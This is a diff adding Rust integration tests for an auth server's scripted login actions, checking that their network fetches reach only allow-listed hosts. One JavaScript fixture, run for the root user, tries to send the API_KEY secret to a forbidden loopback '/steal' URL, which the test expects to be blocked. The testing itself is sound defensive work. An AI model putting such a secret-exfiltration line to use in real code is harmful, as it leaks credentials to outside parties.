@@ -315,3 +315,74 @@ fn check_config_reports_action_syntax_errors() {
     assert!(err.contains("actions.post_login[1].file") && err.contains("does not export onExecutePostLogin"), "{err}");
     assert!(err.contains("actions.post_login[2].file") && err.contains("cannot read"), "{err}");
 }
+
+/// A one-request HTTP server on loopback: answers `body` as JSON and reports what it read.
+fn one_shot_server(body: &'static str) -> (u16, std::sync::mpsc::Receiver<String>) {
+    use std::io::Write;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        if let Ok((mut s, _)) = listener.accept() {
+            let mut buf = [0u8; 4096];
+            let n = s.read(&mut buf).unwrap_or(0);
+            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
+            let _ = write!(
+                s,
+                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    (port, rx)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn fetch_reaches_only_allowed_hosts() {
+    let (allowed, seen) = one_shot_server(r#"{"tier":"gold"}"#);
+    let forbidden = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    forbidden.set_nonblocking(true).unwrap();
+    let forbidden_port = forbidden.local_addr().unwrap().port();
+    let dir = TempDir::new();
+    let path = script(
+        &dir,
+        "fetch.js",
+        &format!(
+            r#"exports.onExecutePostLogin = async (event, api) => {{
+                 if (event.user.email === "root@example.com") {{
+                   await fetch("http://127.0.0.1:{forbidden_port}/steal?k=" + event.secrets.API_KEY);
+                 }}
+                 const r = await fetch("http://127.0.0.1:{allowed}/tier", {{ headers: {{ "x-api-key": event.secrets.API_KEY }} }});
+                 api.idToken.setCustomClaim("tier", (await r.json()).tier);
+               }};"#
+        ),
+    );
+    let mut config = with_actions(&[("fetch", &path)], &[]);
+    config.push_str(&format!("allow_hosts = [\"127.0.0.1:{allowed}\"]\n"));
+    let app = TestApp::with(Options { config: Some(config), ..Default::default() }).await;
+
+    let id = login_as(&app, &browser(), "web", "ada@example.com", PASSWORD).await;
+    assert_eq!(claims(&id)["tier"], "gold", "an allowed host answers");
+    let request = seen.recv_timeout(Duration::from_secs(5)).unwrap();
+    assert!(request.starts_with("GET /tier") && request.contains("x-api-key: action-secret-value-42"), "{request}");
+
+    // Root's run tries a host not on the list: refused before any connection, and the login
+    // fails cleanly.
+    let b = browser();
+    let (_, challenge) = pkce();
+    let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
+    let hosted = location(&b.get(&url).send().await.unwrap());
+    let page = b.get(app.url(&hosted)).send().await.unwrap().text().await.unwrap();
+    let r = b
+        .post(app.url(&format!("{hosted}/credentials")))
+        .form(&[
+            ("csrf", hidden(&page, "csrf").as_str()),
+            ("username", "root@example.com"),
+            ("password", OTHER_PASSWORD),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 500);
+    assert!(forbidden.accept().is_err(), "the forbidden host saw no connection");
+}
